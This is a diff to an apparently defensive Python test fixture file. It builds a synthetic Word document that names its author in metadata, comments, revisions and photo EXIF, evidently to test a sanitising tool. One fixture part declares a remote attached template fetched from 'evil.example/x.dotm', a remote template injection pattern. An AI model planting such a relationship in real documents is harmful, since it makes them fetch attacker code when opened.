@@ -2,6 +2,7 @@
 
 import io
 import math
+import zipfile
 from typing import Any
 
 import av
@@ -47,6 +48,30 @@ def letter(pages: int = 2, *, beside: bytes = b"") -> bytes:
     sheets = [scene(at + 1, (620, 877)) for at in range(pages)]
     made = saved(sheets[0], "PDF", save_all=True, append_images=sheets[1:], author="Siti Rahayu", resolution=75)
     return made.replace(b"/Type /Catalog", b"/Type /Catalog " + beside) if beside else made
+
+
+WORD_PARTS = {
+    "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+    "_rels/.rels": b'<Relationships><Relationship Id="r1" Type="x/officeDocument" Target="word/document.xml"/>'
+    b"</Relationships>",
+    "word/document.xml": b'<w:document><w:p><w:ins w:author="Siti Rahayu"><w:r><w:t>Jalan rusak</w:t></w:r></w:ins>'
+    b"</w:p></w:document>",
+    "word/comments.xml": b'<w:comments><w:comment w:id="0" w:author=\'Siti Rahayu\' w:initials="SR"/></w:comments>',
+    "word/_rels/document.xml.rels": b'<Relationships><Relationship Id="r2" Type="x/hyperlink" Target="https://berita.example/"'
+    b' TargetMode="External"/><Relationship Id="r3" Type="x/image" Target="media/image1.jpeg"/></Relationships>',
+    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r4" Type="x/attachedTemplate"'
+    b' Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>',
+    "docProps/core.xml": b"<cp:coreProperties><dc:creator>Siti Rahayu</dc:creator></cp:coreProperties>",
+}
+
+
+def document(**more: bytes) -> bytes:
+    """A Word file that names its author in every way, with a photo as a phone made it."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
+        for name, content in {**WORD_PARTS, "word/media/image1.jpeg": photo(exif=True), **more}.items():
+            made.writestr(name, content)
+    return out.getvalue()
 
 
 def recording(
